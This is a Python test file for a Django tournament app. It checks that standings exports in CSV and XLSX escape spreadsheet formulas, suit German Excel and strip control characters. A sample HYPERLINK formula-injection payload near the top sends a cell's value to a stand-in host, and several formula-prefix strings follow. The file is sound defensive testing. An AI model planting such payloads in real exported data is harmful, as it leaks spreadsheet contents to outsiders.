"""Finding 9: the standings' downloads run no formula, and German Excel reads the CSV."""

import csv
import io

import openpyxl
import pytest
from django.test import Client
from django.urls import reverse

from sitewide.spreadsheet import safe_cell
from tests.factories import UserFactory
from tests.scoring.helpers import enter, playing_table
from tournaments.models import Player, Seat

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://example.invalid/?d="&A1,"Klick")'


@pytest.fixture
def organiser() -> Client:
    client = Client()
    client.force_login(UserFactory(is_staff=True))
    return client


def _standings_with_a_name(name: str) -> str:
    table = playing_table()
    enter(table, 0, "3 +")
    seat = Seat.objects.select_related("registration__player").get(table=table, position=1)
    Player.objects.filter(pk=seat.registration.player_id).update(name=name)
    return reverse("scoring:standings", args=[table.tournament_id])


def test_a_formula_name_is_plain_text_in_the_xlsx(organiser: Client) -> None:
    url = _standings_with_a_name(HYPERLINK)
    content = organiser.get(url, {"_export": "xlsx"}).content
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    names = [cell for cell in cells if "HYPERLINK" in str(cell.value)]
    assert [(cell.value, cell.data_type) for cell in names] == [("'" + HYPERLINK, "s")]
    assert not [cell for cell in cells if cell.data_type == "f"]


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_csv_cell_that_starts_a_formula_gets_an_apostrophe(organiser: Client, start: str) -> None:
    url = _standings_with_a_name(f"{start}1+1 Anna")
    response = organiser.get(url, {"_export": "csv"})
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    assert [row[1] for row in rows if "1+1 Anna" in row[1]] == [f"'{start}1+1 Anna"]


def test_the_csv_has_a_bom_and_semicolons_for_german_excel(organiser: Client) -> None:
    url = _standings_with_a_name("Jürgen Möller")
    content = organiser.get(url, {"_export": "csv"}).content
    assert content.startswith(b"\xef\xbb\xbf")
    header = content.decode("utf-8-sig").splitlines()[0]
    assert header.split(";")[:3] == ["Platz", "Spieler", "Verein"]
    assert "Jürgen Möller" in content.decode("utf-8-sig")


@pytest.mark.parametrize(("value", "expected"), [(-12, -12), ("-12", "'-12"), ("Anna", "Anna")])
def test_numbers_stay_numbers(value: object, expected: object) -> None:
    assert safe_cell(value) == expected


def test_control_characters_saved_unvalidated_do_not_break_the_xlsx(organiser: Client) -> None:
    # .update() bypasses the form's validation, as data saved by an older version did.
    # No NUL: PostgreSQL stores none, so no old row holds one.
    url = _standings_with_a_name("Anna\x01 Mai\x1b\x7fer\x0b")
    response = organiser.get(url, {"_export": "xlsx"})
    assert response.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    values = [cell.value for row in sheet.iter_rows() for cell in row]
    assert "Anna Maier" in values


def test_control_characters_are_removed_from_the_csv_too(organiser: Client) -> None:
    url = _standings_with_a_name("Bernd\x07 Huber")
    text = organiser.get(url, {"_export": "csv"}).content.decode("utf-8-sig")
    assert "Bernd Huber" in text
    assert "\x07" not in text


@pytest.mark.parametrize(
    ("value", "expected"),
    [("A\x00b\x1fc\x85d", "Abcd"), ("Tab\tand\nline", "Tab\tand\nline"), (7, 7)],
)
def test_only_control_characters_are_removed(value: object, expected: object) -> None:
    assert safe_cell(value) == expected
